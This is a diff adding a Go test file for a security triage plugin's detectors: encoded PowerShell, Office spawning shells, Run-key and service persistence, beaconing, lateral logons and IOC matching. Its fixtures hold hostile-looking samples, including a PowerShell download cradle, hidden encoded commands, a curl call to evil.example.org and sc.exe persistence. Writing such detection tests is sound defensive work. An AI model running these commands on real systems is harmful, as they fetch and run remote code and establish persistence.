@@ -1,0 +1,508 @@
+package main
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/lhk-soc/lhk/pdk"
+)
+
+var t0 = time.Date(2026, 11, 6, 9, 0, 0, 0, time.UTC)
+
+func at(d time.Duration) string { return t0.Add(d).Format(time.RFC3339Nano) }
+
+func TestPowerShellMarkers(t *testing.T) {
+	tests := []struct {
+		name, proc, cmd string
+		want            []string
+		decoded         string
+	}{
+		{"Enc", "powershell.exe", "powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAA9AE4AZQB3AC0ATwBiAGoAZQBjAHQA", []string{"-enc"}, "$client=New-Object"},
+		{"ShortE", "powershell.exe", "powershell -e SQBFAFgA", []string{"-e"}, "IEX"},
+		{"EncodedCommandSlash", "pwsh.exe", "pwsh /EncodedCommand SQBFAFgA", []string{"/encodedcommand"}, "IEX"},
+		{"CradleViaCmd", "cmd.exe", `cmd /c powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a')`, []string{"IEX", "DownloadString"}, ""},
+		{"FromBase64", "powershell.exe", `powershell [Convert]::FromBase64String($s)`, []string{"FromBase64String"}, ""},
+		{"ExecutionPolicyIsNotEncoded", "powershell.exe", "powershell.exe -ep bypass -File C:\\it\\inventory.ps1", nil, ""},
+		{"PlainPowerShell", "powershell.exe", "powershell.exe Get-Process", nil, ""},
+		{"IexploreIsNotIEX", "powershell.exe", `powershell Start-Process iexplore.exe`, nil, ""},
+		{"NotPowerShell", "certutil.exe", "certutil -e -f x.bin", nil, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, dec := PowerShellMarkers(tt.proc, tt.cmd)
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("markers = %q, want %q", got, tt.want)
+			}
+			if dec != tt.decoded {
+				t.Errorf("decoded = %q, want %q", dec, tt.decoded)
+			}
+		})
+	}
+}
+
+func node(pid, name, parent, cmd string, kids ...*pdk.ProcessNode) *pdk.ProcessNode {
+	return &pdk.ProcessNode{PID: pid, Name: name, ParentName: parent, CommandLine: cmd, EventID: "ev-" + pid, Start: t0, Children: kids}
+}
+
+func TestProcessFindings(t *testing.T) {
+	tests := []struct {
+		name  string
+		roots []*pdk.ProcessNode
+		want  []string // rule/severity
+	}{
+		{"WordSpawnsEncodedPowerShell", []*pdk.ProcessNode{
+			node("100", "WINWORD.EXE", "explorer.exe", `"WINWORD.EXE" /n Invoice.docm`,
+				node("200", "powershell.exe", "", "powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAA9AE4AZQB3AC0ATwBiAGoAZQBjAHQA")),
+		}, []string{"encoded-powershell/high", "office-spawns-shell/high"}},
+		{"MshtaSpawnsCmd", []*pdk.ProcessNode{node("1", "cmd.exe", `C:\Windows\System32\mshta.exe`, "cmd /c whoami")}, []string{"office-spawns-shell/high"}},
+		{"ExplorerSpawnsPowerShell", []*pdk.ProcessNode{node("1", "explorer.exe", "", "", node("2", "powershell.exe", "", "powershell Get-ChildItem"))}, nil},
+		{"ExcelOpensExcel", []*pdk.ProcessNode{node("1", "excel.exe", "EXCEL.EXE", "excel /dde")}, nil},
+		{"ServiceCreate", []*pdk.ProcessNode{node("1", "sc.exe", "cmd.exe", `sc.exe create Updater binPath= "C:\Users\Public\u.exe"`)}, []string{"service-persistence/high"}},
+		{"ServiceCreatePlain", []*pdk.ProcessNode{node("1", "sc.exe", "services.exe", `sc create Backup binPath= "C:\Program Files\Backup\agent.exe"`)}, []string{"service-persistence/medium"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []string
+			for _, f := range processFindings(flatten(tt.roots)) {
+				got = append(got, f.Rule+"/"+f.Severity)
+				if len(f.Evidence) == 0 {
+					t.Errorf("%s has no evidence", f.Rule)
+				}
+			}
+			slices.Sort(got)
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("findings = %q, want %q", got, tt.want)
+			}
+		})
+	}
+	// The parent's name from the tree appears in the finding.
+	fs := processFindings(flatten([]*pdk.ProcessNode{node("100", "WINWORD.EXE", "", "", node("200", "powershell.exe", "", "powershell -enc SQBFAFgA"))}))
+	if !strings.Contains(fs[0].What, "started by WINWORD.EXE") || !strings.Contains(fs[0].What, `"IEX"`) {
+		t.Errorf("what = %q", fs[0].What)
+	}
+}
+
+func TestRegistryFindings(t *testing.T) {
+	runKey := `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveUpdate`
+	tests := []struct {
+		name string
+		ev   pdk.Event
+		want string // rule/severity or ""
+	}{
+		{"RunKeyByPowerShell", pdk.Event{"_id": "r1", "registry.path": runKey, "process.name": "powershell.exe", "Details": `C:\Users\hsato\AppData\Roaming\upd.exe`}, "run-key-persistence/high"},
+		{"RunKeyRawSysmon", pdk.Event{"TargetObject": `HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\RunOnce\x`, "Image": `C:\Tools\setup.exe`, "Details": `C:\Program Files\Tool\tool.exe`}, "run-key-persistence/medium"},
+		{"RunKeyDataList", pdk.Event{"registry.path": runKey, "registry.data.strings": []any{"powershell -w hidden -enc AAAA"}}, "run-key-persistence/high"},
+		{"RunKeyDeleted", pdk.Event{"registry.path": runKey, "event.action": "registry-key-created-or-deleted", "EventType": "DeleteValue"}, ""},
+		{"ServiceImagePath", pdk.Event{"registry.path": `HKLM\System\CurrentControlSet\Services\evilsvc\ImagePath`, "Details": `%COMSPEC% /c powershell -enc AAAA`}, "service-persistence/high"},
+		{"OtherKey", pdk.Event{"registry.path": `HKCU\Software\Microsoft\Office\16.0\Word\MRU\Item 1`, "process.name": "WINWORD.EXE"}, ""},
+		{"RunMRUIsNotRun", pdk.Event{"registry.path": `HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a`, "process.name": "explorer.exe"}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			fs := registryFindings([]pdk.Event{tt.ev}, nil)
+			got := ""
+			if len(fs) > 0 {
+				got = fs[0].Rule + "/" + fs[0].Severity
+			}
+			if got != tt.want || len(fs) > 1 {
+				t.Errorf("findings = %v, want %s", fs, tt.want)
+			}
+		})
+	}
+	fs := registryFindings([]pdk.Event{{"registry.path": runKey, "process.name": "powershell.exe"}}, nil)
+	if !strings.Contains(fs[0].What, runKey) || !strings.Contains(fs[0].What, "powershell.exe") {
+		t.Errorf("what = %q", fs[0].What)
+	}
+}
+
+// conns returns n connections to ip every period, shifted by jitter(i).
+func conns(ip, domain string, n int, period time.Duration, jitter func(i int) time.Duration) []pdk.Event {
+	var out []pdk.Event
+	for i := range n {
+		e := pdk.Event{"_id": fmt.Sprintf("%s-%d", ip, i), "@timestamp": at(time.Duration(i)*period + jitter(i)),
+			"destination.ip": ip, "destination.port": 443.0, "source.ip": "10.20.1.17", "process.name": "powershell.exe"}
+		if domain != "" {
+			e["destination.domain"] = domain
+		}
+		out = append(out, e)
+	}
+	return out
+}
+
+func TestBeaconCandidates(t *testing.T) {
+	none := func(int) time.Duration { return 0 }
+	wobble := func(i int) time.Duration { return time.Duration((i*7)%11-5) * time.Second } // ±5 s on 60 s
+	random := func(i int) time.Duration { return time.Duration((i*i*7919)%3000) * time.Second }
+	cfg := DefaultConfig()
+	tests := []struct {
+		name   string
+		events []pdk.Event
+		want   []string
+	}{
+		{"Regular", conns("203.0.113.66", "cdn-update.example-c2.net", 30, time.Minute, none), []string{"203.0.113.66"}},
+		{"Jittered", conns("203.0.113.66", "", 30, time.Minute, wobble), []string{"203.0.113.66"}},
+		{"MissedBeats", slices.Delete(conns("203.0.113.66", "", 30, time.Minute, none), 10, 12), []string{"203.0.113.66"}},
+		{"Irregular", conns("198.51.100.7", "", 30, time.Minute, random), nil},
+		{"TooFew", conns("203.0.113.66", "", 5, time.Minute, none), nil},
+		{"Internal", conns("10.20.0.10", "", 30, time.Minute, none), nil},
+		{"Burst", conns("203.0.113.66", "", 30, time.Second/2, none), nil},
+		{"DuplicateRecordsAreOneConnection", append(conns("203.0.113.66", "", 30, time.Minute, none), conns("203.0.113.66", "", 30, time.Minute, func(int) time.Duration { return 200 * time.Millisecond })...), []string{"203.0.113.66"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []string
+			for _, b := range beaconCandidates(tt.events, cfg) {
+				got = append(got, b.IP)
+				if b.Count != 30 && !strings.Contains(tt.name, "Missed") {
+					t.Errorf("count = %d, want 30", b.Count)
+				}
+			}
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("candidates = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestBeaconDomainFromDNS(t *testing.T) {
+	evs := conns("203.0.113.66", "", 20, time.Minute, func(int) time.Duration { return 0 })
+	evs = append(evs, pdk.Event{"dns.question.name": "CDN-Update.example-c2.net", "QueryResults": "type:  5 x;::ffff:203.0.113.66;"})
+	bs := beaconCandidates(evs, DefaultConfig())
+	if len(bs) != 1 || bs[0].Domain != "cdn-update.example-c2.net" {
+		t.Fatalf("beacons = %+v", bs)
+	}
+}
+
+func TestBeaconFindings(t *testing.T) {
+	b := Beacon{IP: "203.0.113.66", Domain: "c2.example", Ports: []string{"443"}, Count: 40, Beat: time.Minute, Regular: 1, First: t0, Last: t0.Add(40 * time.Minute)}
+	tests := []struct {
+		name  string
+		hosts int
+		sev   string
+		obs   int
+	}{
+		{"Rare", 1, pdk.SeverityHigh, 2},
+		{"Common", 40, pdk.SeverityLow, 0},
+		{"Unknown", -1, pdk.SeverityMedium, 0},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			b.Hosts = tt.hosts
+			f := beaconFindings([]Beacon{b}, DefaultConfig())[0]
+			if f.Severity != tt.sev || len(f.Observables) != tt.obs {
+				t.Errorf("finding = %+v", f)
+			}
+			if !strings.Contains(f.What, "203.0.113.66 (c2.example) port 443") || !strings.Contains(f.What, "every 1m0s") {
+				t.Errorf("what = %q", f.What)
+			}
+		})
+	}
+}
+
+func TestHostRole(t *testing.T) {
+	tests := []struct {
+		name  string
+		asset *pdk.Asset
+		host  string
+		want  string
+	}{
+		{"ServerOS", &pdk.Asset{Name: "FILES", OS: "Windows Server 2022"}, "FILES", RoleServer},
+		{"WorkstationOS", &pdk.Asset{Name: "X1", OS: "Windows 11 Enterprise"}, "X1", RoleWorkstation},
+		{"Tag", &pdk.Asset{Name: "X2", Tags: []string{"Domain-Controller"}}, "X2", RoleServer},
+		{"NameServer", nil, "ACME-FS-01", RoleServer},
+		{"NameDC", nil, "dc01.corp.local", RoleServer},
+		{"NameWorkstation", nil, "ACME-WS-017", RoleWorkstation},
+		{"AssetNameOnly", &pdk.Asset{Name: "ACME-SRV-DB"}, "", RoleServer},
+		{"Unknown", nil, "printer7", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := HostRole(tt.asset, tt.host); got != tt.want {
+				t.Errorf("HostRole = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLogonFindings(t *testing.T) {
+	ws := &pdk.Asset{Name: "ACME-WS-017", IPs: []string{"10.20.1.17"}, OS: "Windows 11"}
+	inventory := map[string]*pdk.Asset{
+		"acme-fs-01": {Name: "ACME-FS-01", IPs: []string{"10.20.0.10"}, OS: "Windows Server 2022"},
+		"10.20.1.30": {Name: "ACME-WS-030", OS: "Windows 11"},
+	}
+	lookup := func(h string) *pdk.Asset { return inventory[strings.ToLower(h)] }
+	logon := func(host, typ, user, src string, extra ...any) pdk.Event {
+		e := pdk.Event{"_id": host + user + typ, "@timestamp": at(0), "host.name": host, "event.code": "4624", "event.category": "authentication",
+			"event.outcome": "success", "winlog.logon.type": typ, "user.target.name": user, "user.target.domain": "ACME", "source.ip": src}
+		for i := 0; i < len(extra); i += 2 {
+			e[extra[i].(string)] = extra[i+1]
+		}
+		return e
+	}
+	tests := []struct {
+		name     string
+		host     string
+		asset    *pdk.Asset
+		ev       pdk.Event
+		hostHigh bool
+		want     string // severity, "" for none
+	}{
+		{"OutboundAfterCompromise", "ACME-WS-017", ws, logon("ACME-FS-01", "Network", "hsato", "10.20.1.17"), true, pdk.SeverityHigh},
+		{"OutboundQuietHost", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "hsato", "10.20.1.17"), false, pdk.SeverityMedium},
+		{"InboundToServer", "ACME-FS-01", inventory["acme-fs-01"], logon("ACME-FS-01", "RemoteInteractive", "jdoe", "10.20.1.30"), true, pdk.SeverityMedium},
+		{"Interactive", "ACME-WS-017", ws, logon("ACME-FS-01", "Interactive", "hsato", "10.20.1.17"), true, ""},
+		{"MachineAccount", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "ACME-WS-017$", "10.20.1.17"), true, ""},
+		{"Failed", "ACME-WS-017", ws, logon("ACME-FS-01", "3", "hsato", "10.20.1.17", "event.outcome", "failure"), true, ""},
+		{"WorkstationToWorkstation", "ACME-WS-017", ws, logon("ACME-WS-030", "3", "hsato", "10.20.1.17"), true, ""},
+		{"ExplicitCredentials", "ACME-WS-017", ws, pdk.Event{"host.name": "ACME-WS-017", "event.code": "4648", "user.target.name": "admin", "TargetServerName": "ACME-FS-01"}, true, pdk.SeverityHigh},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			fs := logonFindings(tt.host, tt.asset, []pdk.Event{tt.ev}, lookup, tt.hostHigh)
+			got := ""
+			if len(fs) > 0 {
+				got = fs[0].Severity
+			}
+			if got != tt.want || len(fs) > 1 {
+				t.Fatalf("findings = %+v, want %q", fs, tt.want)
+			}
+			if got != "" && !strings.Contains(fs[0].What, "ACME-FS-01") {
+				t.Errorf("what = %q", fs[0].What)
+			}
+		})
+	}
+}
+
+func TestIOCFindings(t *testing.T) {
+	c := &pdk.Collection{
+		Network: []pdk.Event{{"_id": "n1", "destination.ip": "203.0.113.66", "destination.domain": "cdn-update.example-c2.net"},
+			{"_id": "n2", "destination.ip": "203.0.113.6"}},
+		Files: []pdk.Event{{"_id": "f1", "file.path": `C:\x\a.exe`, "file.hash.sha256": strings.Repeat("ab", 32)}},
+	}
+	procs := flatten([]*pdk.ProcessNode{node("1", "curl.exe", "", "curl https://evil.example.org/x")})
+	iocs := []string{"203.0.113.66", "example-c2.net", strings.Repeat("ab", 32), "example.org", "198.51.100.1"}
+	fs := iocFindings(iocs, c, procs)
+	got := map[string]string{}
+	for _, f := range fs {
+		got[f.Observables[0].Value] = f.Observables[0].Type + fmt.Sprint(len(f.Evidence))
+	}
+	want := map[string]string{"203.0.113.66": "ip1", "example-c2.net": "domain1", strings.Repeat("ab", 32): "hash1", "example.org": "domain1"}
+	if fmt.Sprint(got) != fmt.Sprint(want) {
+		t.Errorf("matches = %v, want %v", got, want)
+	}
+}
+
+func TestParseInputAndConfig(t *testing.T) {
+	tests := []struct {
+		name, in, err string
+	}{
+		{"Host", `{"tenant":"acme","host":"WS1","time":"2026-11-06T09:00:00Z","window_minutes":30}`, ""},
+		{"Ticket", `{"ticket":"T-1"}`, ""},
+		{"Empty", ``, "input is empty"},
+		{"NotJSON", `host=WS1`, "input is not"},
+		{"NoHost", `{"tenant":"acme"}`, `needs "host"`},
+		{"NoTenant", `{"host":"WS1"}`, `needs "tenant"`},
+		{"BadTime", `{"tenant":"acme","host":"WS1","time":"yesterday"}`, "input is not"},
+		{"HugeWindow", `{"tenant":"acme","host":"WS1","window_minutes":100000}`, "window_minutes"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := ParseInput([]byte(tt.in))
+			if (err == nil) != (tt.err == "") || err != nil && !strings.Contains(err.Error(), tt.err) {
+				t.Errorf("err = %v, want %q", err, tt.err)
+			}
+		})
+	}
+	cfg, err := ParseConfig(func(k string) (string, bool) {
+		v, ok := map[string]string{"iocs": "203.0.113.66, Evil.example ;abc", "beacon_min": "5", "window_minutes": "90"}[k]
+		return v, ok
+	})
+	if err != nil || !slices.Equal(cfg.IOCs, []string{"203.0.113.66", "evil.example", "abc"}) || cfg.BeaconMin != 5 || cfg.Window != 90*time.Minute {
+		t.Errorf("config = %+v, %v", cfg, err)
+	}
+	if _, err := ParseConfig(func(k string) (string, bool) { return "lots", k == "collect_limit" }); err == nil || !strings.Contains(err.Error(), "collect_limit") {
+		t.Errorf("bad config err = %v", err)
+	}
+}
+
+func TestTicketTime(t *testing.T) {
+	created := time.Date(2026, 11, 27, 0, 0, 0, 0, time.UTC)
+	tests := []struct {
+		desc string
+		want time.Time
+	}{
+		{"SIEM alert\n\n- **Time**: `2026-11-06T09:00:00Z`\n- host: X", t0},
+		{"time: 2026-11-06T10:00:00+01:00", t0},
+		{"no time here 2026-11-06T09:00:00Z", created},
+	}
+	for i, tt := range tests {
+		if got := ticketTime(&pdk.Ticket{Description: tt.desc, CreatedAt: created}); !got.Equal(tt.want) {
+			t.Errorf("%d: ticketTime = %v, want %v", i, got, tt.want)
+		}
+	}
+}
+
+// fakeSystems is Systems over in-memory data.
+type fakeSystems struct {
+	grant    pdk.Grant
+	tickets  map[string]*pdk.Ticket // tenant/id
+	assets   map[string]*pdk.Asset  // tenant/lower(name or ip)
+	col      *pdk.Collection
+	logons   []pdk.Event
+	hosts    int // answer of Top
+	collects []pdk.CollectRequest
+	comments []string
+	added    []pdk.Observable
+	tops     int
+}
+
+func (f *fakeSystems) Grant() (*pdk.Grant, error) { return &f.grant, nil }
+func (f *fakeSystems) GetTicket(tenant, id string) (*pdk.Ticket, error) {
+	if !slices.Contains(f.grant.Tenants, tenant) {
+		return nil, &pdk.Error{Code: pdk.CodeForbidden, Message: "tenant " + tenant + " is not granted"}
+	}
+	if t := f.tickets[tenant+"/"+id]; t != nil {
+		return t, nil
+	}
+	return nil, &pdk.Error{Code: pdk.CodeNotFound, Message: "no ticket " + id}
+}
+func (f *fakeSystems) CommentTicket(tenant, id, body string) (*pdk.Ticket, error) {
+	f.comments = append(f.comments, body)
+	return f.tickets[tenant+"/"+id], nil
+}
+func (f *fakeSystems) UpdateTicket(tenant, id string, upd pdk.TicketUpdate) (*pdk.Ticket, error) {
+	f.added = append(f.added, upd.AddObservables...)
+	return f.tickets[tenant+"/"+id], nil
+}
+func (f *fakeSystems) LookupAsset(tenant, host string) (*pdk.Asset, error) {
+	if a := f.assets[tenant+"/"+strings.ToLower(host)]; a != nil {
+		return a, nil
+	}
+	return nil, &pdk.Error{Code: pdk.CodeNotFound, Message: "no asset " + host}
+}
+func (f *fakeSystems) Collect(req pdk.CollectRequest) (*pdk.Collection, error) {
+	f.collects = append(f.collects, req)
+	return f.col, nil
+}
+func (f *fakeSystems) SearchFields(req pdk.FieldSearchRequest) (*pdk.SearchResult, error) {
+	return &pdk.SearchResult{Events: f.logons}, nil
+}
+func (f *fakeSystems) Top(req pdk.TopRequest) (*pdk.TopResult, error) {
+	f.tops++
+	var bs []pdk.Bucket
+	for i := range f.hosts {
+		bs = append(bs, pdk.Bucket{Value: fmt.Sprint("H", i), Count: 1})
+	}
+	return &pdk.TopResult{Field: req.Field, Buckets: bs}, nil
+}
+func (f *fakeSystems) Logf(pdk.Level, string, ...any) {}
+
+// storySystems holds a compromised workstation's telemetry.
+func storySystems() *fakeSystems {
+	ws := &pdk.Asset{Tenant: "acme", Name: "ACME-WS-017", IPs: []string{"10.20.1.17"}, OS: "Windows 11", Owner: "hsato"}
+	fs01 := &pdk.Asset{Tenant: "acme", Name: "ACME-FS-01", IPs: []string{"10.20.0.10"}, OS: "Windows Server 2022"}
+	return &fakeSystems{
+		grant: pdk.Grant{Tenants: []string{"globex", "acme"}},
+		tickets: map[string]*pdk.Ticket{"acme/T-1": {ID: "T-1", Tenant: "acme", Description: "Alert\n\n- time: 2026-11-06T09:00:00Z",
+			Observables: []pdk.Observable{{Type: pdk.ObservableIP, Value: "10.20.1.17"}}}},
+		assets: map[string]*pdk.Asset{"acme/acme-ws-017": ws, "acme/10.20.1.17": ws, "acme/acme-fs-01": fs01},
+		col: &pdk.Collection{
+			Processes: []*pdk.ProcessNode{node("100", "WINWORD.EXE", "explorer.exe", "WINWORD.EXE Invoice.docm",
+				node("200", "powershell.exe", "", "powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAA9AE4AZQB3AC0ATwBiAGoAZQBjAHQA"))},
+			Network:  conns("203.0.113.66", "cdn-update.example-c2.net", 40, time.Minute, func(int) time.Duration { return 0 }),
+			Registry: []pdk.Event{{"_id": "r1", "registry.path": `HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveUpdate`, "process.name": "powershell.exe"}},
+		},
+		logons: []pdk.Event{{"_id": "l1", "host.name": "ACME-FS-01", "event.code": "4624", "winlog.logon.type": "Network",
+			"user.target.name": "hsato", "source.ip": "10.20.1.17"}},
+		hosts: 1,
+	}
+}
+
+func TestTriageTicket(t *testing.T) {
+	sys := storySystems()
+	out, err := Triage(sys, Input{Ticket: "T-1"}, DefaultConfig(), time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The ticket was found in the second granted tenant; the host from its ip
+	// observable through the inventory; the time from its description.
+	if out.Tenant != "acme" || out.Host != "ACME-WS-017" || !out.From.Equal(t0.Add(-time.Hour)) || !out.To.Equal(t0.Add(time.Hour)) {
+		t.Fatalf("target = %s %s %s–%s", out.Tenant, out.Host, out.From, out.To)
+	}
+	var rules []string
+	for _, f := range out.Findings {
+		rules = append(rules, f.Rule+"/"+f.Severity)
+	}
+	want := []string{"beaconing/high", "encoded-powershell/high", "lateral-logon/high", "office-spawns-shell/high", "run-key-persistence/high"}
+	if !slices.Equal(rules, want) {
+		t.Errorf("findings = %q, want %q", rules, want)
+	}
+	if len(sys.comments) != 1 {
+		t.Fatalf("%d comments", len(sys.comments))
+	}
+	for _, s := range []string{"WINWORD.EXE", "203.0.113.66", "cdn-update.example-c2.net", `CurrentVersion\Run\OneDriveUpdate`, "ACME-FS-01", "| high | beaconing |"} {
+		if !strings.Contains(sys.comments[0], s) {
+			t.Errorf("comment lacks %q:\n%s", s, sys.comments[0])
+		}
+	}
+	if want := []pdk.Observable{{Type: "ip", Value: "203.0.113.66"}, {Type: "domain", Value: "cdn-update.example-c2.net"}}; !slices.Equal(sys.added, want) {
+		t.Errorf("observables = %v, want %v", sys.added, want)
+	}
+	if out.Counts["findings_high"] != 5 || out.Counts["logons_from_host"] != 1 {
+		t.Errorf("counts = %v", out.Counts)
+	}
+}
+
+func TestTriageHostErrors(t *testing.T) {
+	tests := []struct {
+		name string
+		in   Input
+		edit func(*fakeSystems)
+		err  string
+	}{
+		{"UnknownTicket", Input{Ticket: "T-9"}, nil, "not found in the granted tenants"},
+		{"TicketOfUngrantedTenant", Input{Ticket: "T-1", Tenant: "initech"}, nil, "forbidden"},
+		{"AllTenantsNeedsTenant", Input{Ticket: "T-1"}, func(f *fakeSystems) { f.grant.Tenants = []string{"*"} }, `name the ticket's "tenant"`},
+		{"TicketWithoutHost", Input{Ticket: "T-1", Tenant: "acme"}, func(f *fakeSystems) { f.tickets["acme/T-1"].Observables = nil }, "no host or ip observable"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			sys := storySystems()
+			if tt.edit != nil {
+				tt.edit(sys)
+			}
+			_, err := Triage(sys, tt.in, DefaultConfig(), time.Now())
+			if err == nil || !strings.Contains(err.Error(), tt.err) {
+				t.Fatalf("err = %v, want %q", err, tt.err)
+			}
+			if len(sys.collects) != 0 || len(sys.comments) != 0 {
+				t.Errorf("work done despite the error")
+			}
+		})
+	}
+}
+
+func TestTriageQuietHost(t *testing.T) {
+	sys := &fakeSystems{col: &pdk.Collection{
+		Processes: []*pdk.ProcessNode{node("1", "explorer.exe", "", "", node("2", "OUTLOOK.EXE", "", "OUTLOOK.EXE"))},
+		Network:   conns("52.96.0.1", "outlook.office365.com", 60, time.Minute, func(int) time.Duration { return 0 }),
+	}, hosts: 300}
+	out, err := Triage(sys, Input{Tenant: "acme", Host: "ACME-WS-001", WindowMinutes: 30}, DefaultConfig(), t0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range out.Findings {
+		if severityRank(f.Severity) <= severityRank(pdk.SeverityMedium) {
+			t.Errorf("quiet host has finding %+v", f)
+		}
+	}
+	if len(sys.comments) != 0 || len(sys.collects) != 1 || sys.collects[0].Limit != pdk.MaxLogLimit || !sys.collects[0].From.Equal(t0.Add(-30*time.Minute)) {
+		t.Errorf("comments %d, collects %+v", len(sys.comments), sys.collects)
+	}
+	if out.Asset != nil || !strings.Contains(out.Summary, "not in the asset inventory") {
+		t.Errorf("asset %v, summary:\n%s", out.Asset, out.Summary)
+	}
+}
